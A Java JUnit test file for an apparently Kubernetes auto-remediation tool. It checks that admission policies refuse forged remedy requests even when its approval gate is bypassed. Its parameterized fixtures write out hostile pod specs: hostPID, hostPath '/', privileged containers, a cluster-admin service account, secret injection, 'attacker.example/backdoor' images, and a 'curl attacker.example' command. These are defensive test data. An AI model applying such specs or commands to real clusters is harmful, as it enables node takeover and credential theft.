package dev.kubesent.gate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.kubesent.api.v1alpha1.FailureKind;
import dev.kubesent.change.Change;
import dev.kubesent.change.MemoryRaise;
import dev.kubesent.change.PodReplacement;
import dev.kubesent.change.RevisionRef;
import dev.kubesent.change.TemplatePatch;
import dev.kubesent.change.TemplateRollback;
import dev.kubesent.cluster.ClusterException;
import dev.kubesent.cluster.KubernetesJson;
import dev.kubesent.cluster.Memory;
import dev.kubesent.cluster.ObjectRef;
import dev.kubesent.cluster.PatchOperation;
import dev.kubesent.cluster.fabric8.KubernetesReads;
import dev.kubesent.cluster.fabric8.KubernetesWrites;
import dev.kubesent.remedy.Remedies;
import dev.kubesent.remedy.engine.Checkpoint;
import dev.kubesent.remedy.engine.Outcome;
import dev.kubesent.testing.ApiServer;
import dev.kubesent.testing.OnTheApiServer;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.Pod;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Issue 25 and shared/reviews/security.md, 4: were the gate deceived by a forged owner, revision or intent, so that it approves whatever a remedy
 * describes, the API server refuses the remedy's own requests. As KubeSent's account with everything granted by RBAC, so that the policies alone
 * hold it.
 */
@OnTheApiServer
class GateSwitchedOffApiServerTest {

    private static final String NAMESPACE = "gate-off";
    private static final MemoryRaise RAISE = new MemoryRaise("app", Memory.parse("64Mi"), Memory.parse("164Mi"), false);
    private static final String LIMIT = "/spec/template/spec/containers/0/resources/limits/memory";

    private static ApiServer server;

    @BeforeAll
    static void whatIsToBeChanged() throws IOException {
        server = ApiServer.required();
        for (var document : Files.readString(Path.of("src/test/resources/attack/gate-off.yaml"))
                .split("(?m)^---$")) {
            HasMetadata object = KubernetesJson.parse(document, GenericKubernetesResource.class);
            server.admin().resource(object).create();
            if (document.contains("\nstatus:")) {
                var live = server.admin().resource(object).get();
                object.getMetadata().setResourceVersion(live.getMetadata().getResourceVersion());
                server.admin().resource(object).updateStatus();
            }
        }
    }

    private static GenericKubernetesResource live(String apiVersion, String kind, String namespace, String name) {
        return server.admin()
                .genericKubernetesResources(apiVersion, kind)
                .inNamespace(namespace)
                .withName(name)
                .get();
    }

    private static ObjectRef deployment(String namespace, String name) {
        return ObjectRef.of(live("apps/v1", "Deployment", namespace, name));
    }

    private static Pod pod(String name) {
        return server.admin().pods().inNamespace(NAMESPACE).withName(name).get();
    }

    /** What the remedy does with an approval that no gate gave. @return what came of it, in words */
    private static String done(Change change) {
        var writes = new KubernetesWrites(server.boundByPolicyOnly());
        var reads = new KubernetesReads(server.boundByPolicyOnly());
        try {
            var outcome = new Remedies(reads, writes, _ -> {}, Clock.systemUTC())
                    .apply(new Approved(change, List.of()), new NoRecord());
            return outcome instanceof Outcome.Applied ? "Applied" : outcome.detail();
        } catch (ClusterException e) {
            return String.valueOf(e.getMessage());
        }
    }

    private static void isRefused(Change change) {
        assertThat(done(change))
                .contains("ValidatingAdmissionPolicy 'kubesent-")
                .doesNotContain("resulted in error");
    }

    private static JsonNode yaml(String text) {
        return KubernetesJson.parse(text, JsonNode.class);
    }

    private static TemplatePatch patch(ObjectRef target, String path, String value, ObjectRef... stuck) {
        return new TemplatePatch(
                target, RAISE, List.of(new PatchOperation.Put(path, yaml(value))), List.of(stuck), "", "");
    }

    private static TemplateRollback rollback(String deployment, String spec) {
        return new TemplateRollback(
                deployment(NAMESPACE, deployment),
                FailureKind.CrashLoopBackOff,
                "app",
                new RevisionRef("web-b", "b", 2),
                new RevisionRef("web-a", "a", 1),
                List.of(),
                List.of(new PatchOperation.Put("/spec/template/spec", yaml(spec))),
                List.of(),
                "");
    }

    /** Of 4a: a tenant's pod names an owner. */
    @ParameterizedTest
    @CsvSource({
        "gate-off-other, web, 164Mi", // nobody opted in there
        "gate-off, kept-out, 164Mi", // it has opted out
        "gate-off, web, 16Gi", // more than the maximum
        "gate-off, web, 32Mi" // less than it has
    })
    void a_forged_owner_is_not_changed_beyond_its_bounds(String namespace, String name, String memory) {
        isRefused(patch(deployment(namespace, name), LIMIT, memory));
    }

    /** Of 4a: what a policy, which sees one object, cannot know is whose pod was killed. docs/decisions/0093 */
    @Test
    void what_is_left_to_a_forged_owner_is_memory_up_to_the_maximum_where_it_is_allowed() {
        assertThat(done(patch(deployment(NAMESPACE, "raised"), LIMIT, "164Mi"))).isEqualTo("Applied");
        assertThat(done(patch(deployment(NAMESPACE, "raised"), LIMIT, "8Gi"))).isEqualTo("Applied");
        isRefused(patch(deployment(NAMESPACE, "raised"), LIMIT, "8193Mi"));
    }

    /** Of 4b: pods that bear an old revision's label make it look alive. */
    @Test
    void a_workload_that_is_well_is_not_taken_back() {
        isRefused(rollback("web", "containers: [{name: app, image: 'registry.lab/web:1.0'}]"));
    }

    /** Of 4c, of a Deployment that fails: the tenant's own ReplicaSet as its earlier revision. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        of 4c      | hostPID: true, serviceAccountName: cluster-admin-sa, volumes: [{name: h, hostPath: {path: /}}], containers: [{name: app, image: 'attacker.example/backdoor:1'}]
        node       | hostPID: true, containers: [{name: app, image: 'registry.lab/web:1.0'}]
        account    | serviceAccountName: cluster-admin-sa, containers: [{name: app, image: 'registry.lab/web:1.0'}]
        path       | volumes: [{name: h, hostPath: {path: /}}], containers: [{name: app, image: 'registry.lab/web:1.0'}]
        registry   | containers: [{name: app, image: 'attacker.example/backdoor:1'}]
        privileges | containers: [{name: app, image: 'registry.lab/web:1.0', securityContext: {privileged: true}}]
        secret     | containers: [{name: app, image: 'registry.lab/web:1.0', envFrom: [{secretRef: {name: passwords}}]}]
        beside it  | containers: [{name: app, image: 'registry.lab/web:1.0'}, {name: side, image: 'attacker.example/side:1'}]
        """)
    void a_forged_revision_gives_no_right(String what, String spec) {
        isRefused(rollback("failing", spec.replaceAll(", (?=(serviceAccountName|volumes|containers):)", "\n")));
    }

    /** A record of an intent that says "memory", and whose requests do something else. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        /spec/template/spec/containers/0/image    | 'attacker.example/backdoor:1'
        /spec/template/spec/containers/0/command  | [sh, -c, 'curl attacker.example']
        /spec/template/spec/hostNetwork           | true
        /spec/replicas                            | 0
        /metadata/annotations                     | {kubesent.dev/allow: 'memory,image,command'}
        """)
    void a_forged_intent_changes_no_other_field(String path, String value) {
        isRefused(patch(deployment(NAMESPACE, "web"), path, "# a value\n" + value));
    }

    @Test
    void a_forged_intent_does_not_replace_a_pod_that_is_well() {
        var made = replacement("healthy", "containers: [{name: app, image: 'registry.lab/web:1.0'}]");

        assertThat(done(made)).as("the remedy looks once more").contains("runs again");
        assertThatThrownBy(() ->
                        server.boundByPolicyOnly().resource(pod("healthy")).delete())
                .hasMessageContaining("ValidatingAdmissionPolicy 'kubesent-pods'");
        assertThat(pod("healthy").getMetadata().getDeletionTimestamp()).isNull();
    }

    /** The one that is down is gone then: a forged intent is known from a true one by nothing that the server sees. */
    @Test
    void a_forged_intent_makes_no_pod_with_a_right() {
        done(replacement(
                "down", "hostPID: true\ncontainers: [{name: app, image: a/b:1, securityContext: {privileged: true}}]"));

        assertThat(server.admin().pods().inNamespace(NAMESPACE).list().getItems().stream()
                        .filter(pod -> Boolean.TRUE.equals(pod.getSpec().getHostPID())))
                .isEmpty();
    }

    private static PodReplacement replacement(String name, String spec) {
        var old = pod(name);
        var manifest = KubernetesJson.parse(
                """
                apiVersion: v1
                kind: Pod
                metadata: {name: %s, namespace: gate-off, annotations: {kubesent.dev/replaces: %s}}
                """.formatted(name, old.getMetadata().getUid()) + "spec:\n" + spec.indent(2), Pod.class);
        return new PodReplacement(ObjectRef.of(old), RAISE, List.of(), manifest);
    }

    private static final class NoRecord implements Checkpoint {
        private String last = "";

        @Override
        public String last() {
            return last;
        }

        @Override
        public void reached(String step) {
            last = step;
        }
    }
}
